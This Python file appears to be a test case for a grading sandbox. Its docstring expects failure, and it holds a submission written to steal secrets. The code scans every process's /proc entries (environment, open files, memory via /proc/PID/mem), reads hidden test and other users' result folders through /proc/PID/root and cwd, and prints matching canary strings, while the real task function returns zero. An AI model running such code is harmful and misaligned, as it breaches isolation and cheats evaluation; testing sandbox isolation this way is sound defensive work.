"""The grader's and the zygote's entries in /proc are read: environ, cmdline, fd, mem, maps, root, cwd, tasks.

tries: the parent, its parent, the grader, process 1 and every other number; the tests through /proc/PID/root and
    /proc/PID/cwd, their open files through /proc/PID/fd, and their memory.
must: nothing secret is read.
score: 0
verdict: FAIL, TIMEOUT
process: open
"""

import os
import re

import torch

PATTERN = re.compile(b"canary-" + b"[a-z]+-[0-9a-f]{32}")


def say(data):
    """Everything secret in data goes out on every way there is."""
    for found in set(PATTERN.findall(data)):
        print(found.decode())
        told.append(found.decode())


told = []


def read(path, most=2**22):
    try:
        with open(path, "rb") as file:
            say(file.read(most))
            return True
    except OSError:
        return False


def memory(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            budget = 2**28
            for line in maps:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                if " rw" in line and 0 < end - start < 2**26 and budget > 0:
                    budget -= end - start
                    try:
                        mem.seek(start)
                        say(mem.read(end - start))
                    except (OSError, ValueError, OverflowError):
                        pass
    except OSError:
        pass


def parents():
    pid = os.getpid()
    while pid > 1:
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
        except OSError:
            return
        yield pid


for pid in dict.fromkeys([*parents(), GRADER, 1, *(int(p) for p in os.listdir("/proc") if p.isdigit())]):
    if pid == os.getpid():
        continue
    near = pid in (GRADER, os.getppid(), 1)
    for name in ("environ", "cmdline", "task/%d/environ" % pid, "auxv", "stack"):
        read(f"/proc/{pid}/{name}")
    if near:
        for way in (f"/proc/{pid}/root", f"/proc/{pid}/cwd", f"/proc/{pid}/task/{pid}/root"):
            for folder in (HIDDEN, RESULTS + "/alice"):
                try:
                    for file in os.listdir(way + folder):
                        read(f"{way}{folder}/{file}")
                except OSError:
                    pass
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                if target.startswith("/") and not target.startswith("/dev"):
                    read(f"/proc/{pid}/fd/{fd}")
        except OSError:
            pass
        memory(pid)


def standardise(x):
    return x * 0
